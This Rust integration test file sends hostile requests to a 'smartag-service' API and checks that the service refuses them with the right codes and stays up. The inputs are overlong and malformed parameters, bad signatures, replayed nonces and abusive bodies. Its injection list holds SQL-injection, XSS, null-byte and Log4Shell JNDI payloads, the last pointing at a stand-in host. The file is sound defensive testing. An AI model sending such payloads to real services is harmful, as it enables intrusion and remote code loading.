//! Hostile requests against the running `smartag-service` binary: a table of cases, each with the
//! HTTP status and Code it must get, and after every case the service must still answer a valid
//! Describe.
//!
//! Numbers: the spec's integers are plain decimal, optional `-`, ASCII digits
//! (`runtime::params::WireValue`). So `+5`, ` 5`, `1e3`, `0x10`, `5.0` and `١٢` are refused with
//! the parameter's type error, `-1` and out-of-range values with its range error, and leading
//! zeros are accepted (`007` is 7). Our client only ever sends `i64::to_string()` (never a sign
//! or a leading zero), so everything it sends is read back as the same number.
//!
//! Injection strings: the stored string parameters (UserName, UserMail) have strict patterns, so
//! most injection strings are refused with the parameter's code; those the spec allows (an
//! e-mail local part may hold `%`, `+`, `-`) are stored and returned verbatim, and a Describe
//! filtered by any injection string finds nothing.

mod support;

use std::io::Write;
use std::thread::sleep;
use std::time::Duration;

use support::*;
use time::OffsetDateTime;

#[derive(Debug, Clone, Copy)]
enum Expect {
    Ok,
    Error(u16, &'static str),
}

struct Case {
    name: String,
    call: Call,
    expect: Expect,
}

fn case(name: impl Into<String>, call: Call, expect: Expect) -> Case {
    Case { name: name.into(), call, expect }
}

const CREATE: &str = "CreateSmartAccessGatewayClientUser";
const DESCRIBE: &str = "DescribeSmartAccessGatewayClientUsers";
const MODIFY: &str = "ModifySmartAccessGatewayClientUser";

/// `params` with `name` set to the raw-encoded `value` (replacing any earlier one).
fn with(params: &[(String, String)], name: &str, encoded: &str) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = params.iter().filter(|(n, _)| n != name).cloned().collect();
    out.push(raw(name, encoded));
    out
}

fn enc(s: &str) -> String {
    alibaba_rpc_runtime::encoding::percent_encode(s)
}

const INJECTIONS: &[&str] =
    &["' OR 1=1 --", "<script>alert(1)</script>", "a\0b", "line\nbreak", "${jndi:ldap://evil.example/a}"];

fn run(service: &Service, cases: Vec<Case>) {
    for Case { name, call, expect } in cases {
        let reply = service.send(&call);
        match expect {
            Expect::Ok => {
                assert_eq!(reply.status, 200, "{name}: {}", reply.body);
                assert!(reply.json()["RequestId"].is_string(), "{name}: {}", reply.body);
            }
            Expect::Error(status, code) => reply.assert_error(status, code, &name),
        }
        service.assert_alive(&name);
    }
}

#[test]
fn hostile_parameters_get_the_spec_s_codes() {
    let dir = tempfile::tempdir().expect("temp dir");
    let service = Service::start(dir.path());
    let mut cases = Vec::new();
    // A request line over 64 KiB is refused as a whole (`RequestTooLarge`, see
    // `a_request_line_over_64_kib_gets_the_envelope`), so an overlong value in the query is 60 KB;
    // in a form body it is 100 KB.
    let big = "a".repeat(60 * 1024);
    let huge = "a".repeat(100 * 1024);
    let base = create("sag-demo", "hostile0");
    let list = describe("sag-demo");

    for v in [Version::V1, Version::V3] {
        let call = |action: &str, params: &[(String, String)]| Call::new(v, action, params);
        let tag = |s: &str| format!("{v:?}: {s}");

        // Overlong values.
        cases.push(case(
            tag("60 KB UserName"),
            call(CREATE, &with(&base, "UserName", &big)),
            Expect::Error(400, "ClientUser.NameInvalid"),
        ));
        cases.push(case(
            tag("60 KB Password"),
            call(CREATE, &with(&base, "Password", &big)),
            Expect::Error(400, "ClientUser.PasswordInvalid"),
        ));
        cases.push(case(
            tag("60 KB UserMail"),
            call(CREATE, &with(&base, "UserMail", &format!("{big}@example.com"))),
            Expect::Error(400, "ClientUser.EmailInvalid"),
        ));
        cases.push(case(tag("60 KB Describe filter"), call(DESCRIBE, &with(&list, "UserName", &big)), Expect::Ok));
        cases.push(case(
            tag("100 KB UserName in a form body"),
            call(CREATE, &[]).with_form(&with(&base, "UserName", &huge)),
            Expect::Error(413, "RequestTooLarge"),
        ));

        // Invalid percent-encoding and invalid UTF-8 (decoded leniently, then refused by the
        // parameter's own check).
        cases.push(case(
            tag("invalid percent-encoding in UserName"),
            call(CREATE, &with(&base, "UserName", "%ZZabcdefg")),
            Expect::Error(400, "ClientUser.NameInvalid"),
        ));
        cases.push(case(
            tag("truncated escape in UserName"),
            call(CREATE, &with(&base, "UserName", "abcdefg%F")),
            Expect::Error(400, "ClientUser.NameInvalid"),
        ));
        cases.push(case(
            tag("invalid UTF-8 in UserName"),
            call(CREATE, &with(&base, "UserName", "abc%FF%FEdefg")),
            Expect::Error(400, "ClientUser.NameInvalid"),
        ));
        cases.push(case(
            tag("invalid UTF-8 in UserMail"),
            call(CREATE, &with(&base, "UserMail", "a%C3%28@example.com")),
            Expect::Error(400, "ClientUser.EmailInvalid"),
        ));
        cases.push(case(
            tag("invalid UTF-8 in a form body"),
            call(CREATE, &[]).with_form(&with(&base, "UserName", "abc%FFdefgh")),
            Expect::Error(400, "ClientUser.NameInvalid"),
        ));
        cases.push(case(
            tag("invalid UTF-8 in Bandwidth"),
            call(CREATE, &with(&base, "Bandwidth", "%FF")),
            Expect::Error(400, "ClientUser.BandwidthInvalid"),
        ));
        cases.push(case(
            tag("invalid UTF-8 in PageSize"),
            call(DESCRIBE, &with(&list, "PageSize", "1%FF")),
            Expect::Error(400, "InvalidParameter"),
        ));

        // A parameter twice, in every position, same or different values.
        let mut twice = base.clone();
        twice.push(p("UserName", "hostile9"));
        cases.push(case(
            tag("UserName twice in the query"),
            call(CREATE, &twice),
            Expect::Error(400, "InvalidParameter"),
        ));
        let mut same_twice = list.clone();
        same_twice.push(p("SmartAGId", "sag-demo"));
        cases.push(case(
            tag("SmartAGId twice, same value"),
            call(DESCRIBE, &same_twice),
            Expect::Error(400, "InvalidParameter"),
        ));
        cases.push(case(
            tag("UserName twice in the body"),
            call(CREATE, &[]).with_form(&twice),
            Expect::Error(400, "InvalidParameter"),
        ));
        cases.push(case(
            tag("UserName in the query and the body"),
            call(CREATE, &base).with_form(&[p("UserName", "hostile8")]),
            Expect::Error(400, "InvalidParameter"),
        ));
        cases.push(case(
            tag("PageSize in the query and the body"),
            call(DESCRIBE, &list).with_form(&[p("PageSize", "5")]),
            Expect::Error(400, "InvalidParameter"),
        ));

        // Numbers.
        for bad in ["+5", "-1", "0", "2001", " 5", "5 ", "1e3", "0x10", "5.0", "١٢", "9223372036854775808", "--5"] {
            cases.push(case(
                tag(&format!("Bandwidth {bad:?}")),
                call(CREATE, &with(&base, "Bandwidth", &enc(bad))),
                Expect::Error(400, "ClientUser.BandwidthInvalid"),
            ));
            cases.push(case(
                tag(&format!("Modify Bandwidth {bad:?}")),
                call(MODIFY, &with(&with(&base, "Email", "x%40example.com"), "Bandwidth", &enc(bad))),
                Expect::Error(400, "ClientUser.BandwidthInvalid"),
            ));
        }
        for bad in ["+5", "-1", "0", "101", " 5", "1e1", "١٢", "2147483648", "5.0"] {
            cases.push(case(
                tag(&format!("PageSize {bad:?}")),
                call(DESCRIBE, &with(&list, "PageSize", &enc(bad))),
                Expect::Error(400, "InvalidParameter"),
            ));
        }
        for bad in ["0", "-3", "+1", "1e0", "99999999999"] {
            cases.push(case(
                tag(&format!("PageNumber {bad:?}")),
                call(DESCRIBE, &with(&list, "PageNumber", &enc(bad))),
                Expect::Error(400, "InvalidParameter"),
            ));
        }
        cases.push(case(
            tag("OwnerId not a number"),
            call(DESCRIBE, &with(&list, "OwnerId", "12a")),
            Expect::Error(400, "InvalidParameter"),
        ));
        cases.push(case(
            tag("PageSize with leading zeros"),
            call(DESCRIBE, &with(&list, "PageSize", "0010")),
            Expect::Ok,
        ));

        // Injection strings in every string parameter: refused by the parameter's constraint,
        // or (unconstrained) harmless.
        for bad in INJECTIONS {
            let e = enc(bad);
            let t = |param: &str| tag(&format!("{param} = {bad:?}"));
            cases.push(case(
                t("UserName"),
                call(CREATE, &with(&base, "UserName", &e)),
                Expect::Error(400, "ClientUser.NameInvalid"),
            ));
            cases.push(case(
                t("Password"),
                call(CREATE, &with(&base, "Password", &e)),
                Expect::Error(400, "ClientUser.PasswordInvalid"),
            ));
            cases.push(case(
                t("UserMail"),
                call(CREATE, &with(&base, "UserMail", &e)),
                Expect::Error(400, "ClientUser.EmailInvalid"),
            ));
            cases.push(case(
                t("ClientIp"),
                call(CREATE, &with(&base, "ClientIp", &e)),
                Expect::Error(400, "ClientUser.InvalidClientIp"),
            ));
            cases.push(case(
                t("SmartAGId"),
                call(CREATE, &with(&base, "SmartAGId", &e)),
                Expect::Error(400, "SAG.InstanceNoFound"),
            ));
            cases.push(case(
                t("RegionId"),
                call(DESCRIBE, &with(&list, "RegionId", &e)),
                Expect::Error(400, "SAG.InstanceNoFound"),
            ));
            cases.push(case(
                t("Modify UserName"),
                call(MODIFY, &with(&base, "UserName", &e)),
                Expect::Error(400, "ClientUser.NameInvalid"),
            ));
            cases.push(case(
                t("Modify Email"),
                call(MODIFY, &with(&base, "Email", &e)),
                Expect::Error(400, "ClientUser.EmailInvalid"),
            ));
            cases.push(case(t("OwnerAccount"), call(DESCRIBE, &with(&list, "OwnerAccount", &e)), Expect::Ok));
        }
    }
    run(&service, cases);
}

/// Injection-looking values that the spec allows are stored and answered back byte for byte, and
/// a filter made of an injection string matches nothing (not everything).
#[test]
fn injection_strings_are_data() {
    let dir = tempfile::tempdir().expect("temp dir");
    let service = Service::start(dir.path());
    let mails = [
        "x%27--+OR+1%3D1@example.com",
        "%3Cscript%3Ealert%281%29@example.com",
        "a%00b%0Ac@example.com",
        "%24%7Bjndi%3Aldap%3A--evil@example.com",
        "--@example.com",
    ];
    let names = ["x--OR-1-1--", "a.b@c_d-e.f", "0--------"];
    let mut created = Vec::new();
    for (i, mail) in mails.iter().enumerate() {
        let name = format!("inject{i:02}");
        let reply = service.send(&Call::v1(CREATE, &with(&create("sag-demo", &name), "UserMail", &enc(mail))));
        assert_eq!(reply.status, 200, "{mail}: {}", reply.body);
        assert_eq!(reply.json()["UserMail"], *mail);
        created.push((name, (*mail).to_owned()));
    }
    for (i, name) in names.iter().enumerate() {
        let mail = format!("n{i}@example.com");
        let mut params = with(&create("sag-demo", name), "UserMail", &enc(&mail));
        params = with(&params, "UserName", &enc(name));
        let reply = service.send(&Call::v3(CREATE, &params));
        assert_eq!(reply.status, 200, "{name}: {}", reply.body);
        created.push(((*name).to_owned(), mail));
    }
    for (name, mail) in &created {
        let reply = service.send(&Call::v3(DESCRIBE, &with(&describe("sag-demo"), "UserMail", &enc(mail))));
        assert_eq!(reply.status, 200, "{}", reply.body);
        let v = reply.json();
        assert_eq!(v["TotalCount"], 1, "{mail}: {}", reply.body);
        assert_eq!(v["Users"]["User"][0]["UserMail"], mail.as_str(), "not verbatim");
        assert_eq!(v["Users"]["User"][0]["UserName"], name.as_str(), "not verbatim");
    }
    for bad in INJECTIONS.iter().chain(&["%", "_", "*", "' OR '1'='1"]) {
        for param in ["UserName", "UserMail"] {
            let reply = service.send(&Call::v1(DESCRIBE, &with(&describe("sag-demo"), param, &enc(bad))));
            assert_eq!(reply.status, 200, "{param}={bad:?}: {}", reply.body);
            assert_eq!(reply.json()["TotalCount"], 0, "{param}={bad:?} matched users: {}", reply.body);
        }
    }
    let all = service.send(&Call::v1(DESCRIBE, &describe("sag-demo")));
    assert_eq!(all.json()["TotalCount"], created.len());
}

/// Signature failures under both versions: missing, wrong, unknown key, replayed nonce (also
/// across versions), skewed clocks.
#[test]
fn authentication_failures_under_both_versions() {
    let dir = tempfile::tempdir().expect("temp dir");
    let service = Service::start(dir.path());
    let list = describe("sag-demo");
    let mut cases = Vec::new();
    for v in [Version::V1, Version::V3] {
        let tag = |s: &str| format!("{v:?}: {s}");
        let mut unsigned = Call::new(v, DESCRIBE, &list);
        unsigned.signed = false;
        let missing = match v {
            Version::V1 => Expect::Error(400, "MissingParameter"),
            Version::V3 => Expect::Error(400, "IncompleteSignature"),
        };
        cases.push(case(tag("no signature"), unsigned, missing));
        let mut wrong = Call::new(v, DESCRIBE, &list);
        wrong.secret = "not-the-secret".into();
        cases.push(case(tag("wrong secret"), wrong, Expect::Error(400, "SignatureDoesNotMatch")));
        let mut unknown = Call::new(v, DESCRIBE, &list);
        unknown.key_id = "nobody".into();
        cases.push(case(tag("unknown key"), unknown, Expect::Error(404, "InvalidAccessKeyId.NotFound")));
        for minutes in [-20, 20, -60 * 24 * 365] {
            let mut skewed = Call::new(v, DESCRIBE, &list);
            skewed.at = OffsetDateTime::now_utc() + time::Duration::minutes(minutes);
            cases.push(case(
                tag(&format!("clock {minutes:+} min")),
                skewed,
                Expect::Error(400, "InvalidTimeStamp.Expired"),
            ));
        }
        let mut near = Call::new(v, DESCRIBE, &list);
        near.at = OffsetDateTime::now_utc() - time::Duration::minutes(10);
        cases.push(case(tag("clock -10 min (inside the window)"), near, Expect::Ok));
        let first = Call::new(v, DESCRIBE, &list);
        cases.push(case(tag("a nonce, first use"), first.clone(), Expect::Ok));
        cases.push(case(tag("the same request replayed"), first.clone(), Expect::Error(400, "SignatureNonceUsed")));
        let other = if v == Version::V1 { Version::V3 } else { Version::V1 };
        let mut across = Call::new(other, DESCRIBE, &list);
        across.nonce = first.nonce.clone();
        cases.push(case(
            tag("its nonce reused under the other version"),
            across,
            Expect::Error(400, "SignatureNonceUsed"),
        ));
        // A refused request does not burn its nonce: the same nonce signed right then passes.
        let mut bad_then_good = Call::new(v, DESCRIBE, &list);
        bad_then_good.secret = "wrong".into();
        let mut good = bad_then_good.clone();
        good.secret = SECRET.into();
        cases.push(case(tag("wrong secret with a nonce"), bad_then_good, Expect::Error(400, "SignatureDoesNotMatch")));
        cases.push(case(tag("that nonce, now correctly signed"), good, Expect::Ok));
    }
    run(&service, cases);
}

/// Bodies: 10 MB (declared and chunked), slow, truncated and abandoned.
#[test]
fn hostile_bodies() {
    let dir = tempfile::tempdir().expect("temp dir");
    let service = Service::start(dir.path());
    let addr = service.addr;
    let form = create("sag-demo", "slowbody1");
    for v in [Version::V1, Version::V3] {
        // 10 MB declared: refused from the header, before the body is read.
        let mut call = Call::new(v, CREATE, &[]);
        call.raw_body = Some(vec![b'a'; 10 * 1024 * 1024]);
        let mut stream = connect(addr).expect("connect");
        stream.write_all(&call.head_bytes(addr, Some(10 * 1024 * 1024))).expect("write head");
        let _ = stream.write_all(&[b'a'; 4096]);
        read_reply(&mut stream).expect("answer").assert_error(413, "RequestTooLarge", "10 MB declared");
        service.assert_alive("10 MB declared");

        // 10 MB chunked: refused once the limit is passed while streaming.
        let mut stream = connect(addr).expect("connect");
        let mut head = call.head_bytes(addr, None);
        head.truncate(head.len() - 2);
        head.extend_from_slice(b"transfer-encoding: chunked\r\n\r\n");
        stream.write_all(&head).expect("write head");
        let writer = {
            let mut stream = stream.try_clone().expect("clone");
            std::thread::spawn(move || {
                let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, "a".repeat(64 * 1024));
                for _ in 0..160 {
                    if stream.write_all(chunk.as_bytes()).is_err() {
                        return;
                    }
                }
                let _ = stream.write_all(b"0\r\n\r\n");
            })
        };
        read_reply(&mut stream).expect("answer").assert_error(413, "RequestTooLarge", "10 MB chunked");
        let _ = writer.join();
        service.assert_alive("10 MB chunked");

        // A slow body: in pieces with pauses (well inside the request timeout), then answered.
        let mut slow = Call::new(v, CREATE, &[]).with_form(&with(&form, "UserName", &format!("slow{v:?}body")));
        slow.method = "POST";
        let bytes = slow.to_bytes(addr);
        let mut stream = connect(addr).expect("connect");
        let head_len = bytes.windows(4).position(|w| w == b"\r\n\r\n").expect("head") + 4;
        stream.write_all(&bytes[..head_len]).expect("write head");
        for piece in bytes[head_len..].chunks(16) {
            sleep(Duration::from_millis(50));
            stream.write_all(piece).expect("write piece");
        }
        let reply = read_reply(&mut stream).expect("answer");
        assert_eq!(reply.status, 200, "slow body: {}", reply.body);
        service.assert_alive("slow body");

        // Truncated: Content-Length larger than what is sent, then the writing side closed.
        let mut stream = connect(addr).expect("connect");
        let head_len = bytes.windows(4).position(|w| w == b"\r\n\r\n").expect("head") + 4;
        let mut truncated = Call::new(v, CREATE, &[]).with_form(&form).head_bytes(addr, Some(1000));
        truncated.extend_from_slice(&bytes[head_len..head_len + 20]);
        stream.write_all(&truncated).expect("write");
        finish_writing(&stream);
        match read_reply(&mut stream) {
            // Either an envelope for the unreadable body, or the connection closed unanswered.
            Ok(reply) => reply.assert_error(400, "InvalidParameter", "truncated body"),
            Err(e) => assert!(
                matches!(e.kind(), std::io::ErrorKind::InvalidData | std::io::ErrorKind::ConnectionReset),
                "truncated body: {e}"
            ),
        }
        service.assert_alive("truncated body");

        // Abandoned: the head and part of the body, then the connection dropped.
        let mut stream = connect(addr).expect("connect");
        stream.write_all(&truncated).expect("write");
        drop(stream);
        service.assert_alive("abandoned body");
    }
}

/// A request line over 64 KiB (hyper's limit on a request target) is answered `RequestTooLarge`
/// in the API's envelope (the runtime's `listener::guard` replaces the line before hyper parses
/// it), under both signature versions, and the service keeps serving.
#[test]
fn a_request_line_over_64_kib_gets_the_envelope() {
    let dir = tempfile::tempdir().expect("temp dir");
    let service = Service::start(dir.path());
    let huge = "a".repeat(100 * 1024);
    for v in [Version::V1, Version::V3] {
        let reply = service.send(&Call::new(v, CREATE, &with(&create("sag-demo", "hostile0"), "UserName", &huge)));
        reply.assert_error(413, "RequestTooLarge", &format!("{v:?}: 100 KB query"));
        service.assert_alive("100 KB query");
    }
}

/// On one kept-alive connection, an overlong request line, then an ordinary request sent right
/// behind it (pipelined): each gets its own envelope, so the connection's framing was kept.
#[test]
fn a_pipelined_request_after_an_overlong_request_line_is_answered() {
    use std::io::{Read as _, Write as _};
    let dir = tempfile::tempdir().expect("temp dir");
    let service = Service::start(dir.path());
    let mut stream = connect(service.addr).expect("connect");
    stream.set_read_timeout(Some(std::time::Duration::from_secs(20))).expect("timeout");
    let pad = "p".repeat(70 * 1024);
    let requests = format!(
        "POST /?Action=X&Pad={pad} HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n\r\n\
         POST /?Format=XML HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: 9\r\n\r\nAction=Y&"
    );
    stream.write_all(requests.as_bytes()).expect("write");
    let mut seen = Vec::new();
    let mut buf = [0u8; 4096];
    while !(String::from_utf8_lossy(&seen).contains("</Error>")) {
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => seen.extend_from_slice(&buf[..n]),
            Err(e) => panic!("reading the answers: {e}; so far: {}", String::from_utf8_lossy(&seen)),
        }
    }
    let text = String::from_utf8_lossy(&seen);
    let first = text.find("HTTP/1.1 413").expect(&text);
    assert!(text[first..].contains("\"Code\":\"RequestTooLarge\""), "{text}");
    let second = text[first + 1..].find("HTTP/1.1 ").map(|i| i + first + 1).expect(&text);
    assert!(text[second..].contains("<RequestId>"), "{text}");
    assert!(!text[second..].contains("RequestTooLarge"), "{text}");
    service.assert_alive("pipelined after overlong");
}
